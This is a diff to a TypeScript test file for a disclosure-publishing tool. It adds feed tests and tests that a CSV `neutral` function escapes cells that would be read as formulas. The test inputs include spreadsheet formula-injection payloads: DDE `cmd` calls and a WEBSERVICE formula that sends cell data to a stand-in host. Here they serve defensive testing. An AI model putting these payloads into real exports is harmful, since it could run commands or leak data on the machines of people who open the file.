@@ -1,5 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { neutral } from '#domain/csv.ts';
 import { type TakeAwayWords, takeAwayFiles } from '#domain/publication/take-away/files.ts';
 import type { LogLine } from '#domain/publication/take-away/log.ts';
 import { atomFaults, atoms, deleted, links, parseXml } from '#tests/support/atom.ts';
@@ -59,6 +60,16 @@ describe('the feed', () => {
       { ref: `${origin}/disclosures/03/`, when: '2026-02-03T10:00:00.000Z' },
     ]);
     expect(atoms(feed, 'updated')[0]?.text).toBe('2026-02-03T10:00:00.000Z');
+  });
+
+  it('tells of each of hundreds that were taken down at once', () => {
+    const many = Array.from({ length: 400 }, (_, i) => line(String(i), '2026-01-05'));
+    const gone = many.map(({ reference }) =>
+      line(reference, '2026-01-05', { action: 'remove', changedAt: '2026-02-03T10:00:00.000Z' }),
+    );
+    const feed = filesOf([...many, ...gone], '2026-01-05')['disclosures/feed.xml']!;
+    expect(atomFaults(feed)).toEqual([]);
+    expect(deleted(parseXml(feed))).toHaveLength(400);
   });
 
   it('is complete: from archive to archive to the first month', () => {
@@ -152,6 +163,35 @@ describe('what is taken away as a whole', () => {
       ],
     });
   });
+
+  it.each([
+    '=1+1',
+    '\u00a0@SUM(A1)',
+    '-2+3+cmd|/c!A0',
+    '- WEBSERVICE("https://elsewhere.example/?"&A2)',
+    '- cmd|"/c calc"!A0',
+    "- 'https://elsewhere.example/[a.xlsx]b'!A1",
+    '\t+1x',
+  ])('puts an apostrophe before %j', (cell) => {
+    expect(neutral(cell)).toBe(`'${cell}`);
+  });
+  it('looks no longer at a cell of thousands of spaces than at any other', () => {
+    // It was looked at for minutes.
+    const cell = `-1${' '.repeat(5_000)}x`;
+    expect(neutral(cell)).toBe(`'${cell}`);
+  });
+  it.each([
+    '-1,204',
+    '+44 20 7946 0000',
+    '-£12.50',
+    '- 4.5 %',
+    '-1  204 ',
+    '-',
+    '--',
+    '- not held',
+    '- of which: under 18',
+    'a=b',
+  ])('leaves %j as it is', (cell) => expect(neutral(cell)).toBe(cell));
 
   const day = fc.constantFrom('2024-01-31', '2025-12-30', '2026-01-05', '2026-01-06', '2026-03-01');
   const reference = fc.constantFrom('01', '02', '03', '04');
